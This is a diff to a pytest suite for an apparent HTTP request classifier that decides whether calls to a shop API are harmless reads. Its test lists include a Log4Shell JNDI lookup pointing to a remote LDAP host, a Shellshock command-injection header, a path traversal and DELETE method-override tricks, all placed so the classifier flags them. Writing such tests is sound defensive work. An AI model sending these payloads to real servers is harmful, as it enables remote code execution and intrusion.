@@ -16,6 +16,13 @@ READS = [
     "GET https://shop.example/api/orders?status=open&limit=5\nHost: shop.example",
     "GET https://shop.example/api/orders/4711\nAuthorization: Bearer $SHOP_TOKEN",
     "GET https://shop.example/api/v1/query?query=up%7Bjob%3D%22oven%22%7D",
+    "GET https://shop.example/api/orders?customerId=7&cart_item_ids=1,2&tenant-id=rye&uuid=4f",
+    "GET https://shop.example/api/orders?from=2026-03-01&to=2026-03-01T10:00:00Z&since=-1h&until=now",
+    "GET https://shop.example/api/orders?start=1700000000&end=now-5m",
+    'GET https://shop.example/api/health\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\nIf-None-Match: W/"7"',
+    "GET https://shop.example/api/health\nRange: bytes=0-99,-20",
+    "GET https://shop.example/api/health\nCookie: JSESSIONID=4f.a",
+    "GET https://shop.example/api/health\nCookie: $SHOP_COOKIE",
 ]
 CHANGES = [
     f"{method} https://shop.example/api/health{body}"
@@ -28,6 +35,22 @@ UNKNOWNS = [
     "GET https://shop.example/api/orders?action=delete",
     "GET https://shop.example/api/orders/restart",
     "GET https://shop.example/api/../admin/health",
+    "GET https://shop.example/api/heartbeats/oven/ping",
+    "GET https://shop.example/api/heartbeats/ping",
+    "GET https://shop.example/api/jobs/12?start",
+    "GET https://shop.example/api/jobs/12?end=yes",
+    "GET https://shop.example/api/orders?to=bakers",
+    "GET https://shop.example/api/orders?bake_id=7",
+    "GET https://shop.example/api/orders?orderDeleteId=7",
+    "GET https://shop.example/api/orders?paid=1",
+    "GET https://shop.example/api/orders?prepaid=1",
+    "GET https://shop.example/api/health\nUser-Agent: ${jndi:ldap://rye.example/a}",
+    "GET https://shop.example/api/health\nReferer: () { :; }; id",
+    "GET https://shop.example/api/health\nConnection: close, X-Tenant",
+    "GET https://shop.example/api/health\nRange: bytes=0-1,2-3,4-5",
+    "GET https://shop.example/api/health\nCookie: _method=DELETE",
+    "GET https://shop.example/api/health\nCookie: XDEBUG_SESSION=1",
+    "GET https://shop.example/api/health\nCookie: sid=1; act=bake",
     "GET https://shop.example/api/health\nX-HTTP-Method-Override: DELETE",
     "GET https://shop.example/api/health\nAccept: $SHOP_TOKEN",
     "GET https://shop.example/api/health\nHost: other.example",
@@ -78,6 +101,28 @@ def test_the_proof_stands_where_it_says(text: str) -> None:
     assert all(text[part.at : part.end] == part.text for part in verdict.proof)
     if verdict.proof:
         assert (verdict.deciding is None) is (verdict.word == "read")
+
+
+@pytest.mark.parametrize(
+    ("text", "trait"),
+    [
+        ("orders/4711\nAuthorization: Bearer $SHOP_TOKEN", "secret"),
+        ("health\nX-Api-Key: rye", "secret"),
+        ("health\nCookie: sid=$SHOP_SESSION", "secret"),
+        ("events", "endless"),
+        ("containers/oven/stats", "endless"),
+        ("health\nAccept: text/event-stream", "endless"),
+    ],
+)
+def test_a_credential_and_a_stream_are_told(text: str, trait: str) -> None:
+    """It only looks, and still never starts by itself."""
+    verdict = classify("http", f"GET https://shop.example/api/{text}")
+    assert (verdict.word, set(verdict.traits)) == ("read", {"network", trait})
+
+
+def test_what_is_known_to_end_is_no_stream() -> None:
+    """Of these paths the whole is listed."""
+    assert classify("http", "GET https://shop.example:9200/_cluster/stats").traits == ("network",)
 
 
 @pytest.mark.parametrize("path", ["health", "orders/4711", "orders?status=open", "flush", "orders?do=delete", "x/y/z"])
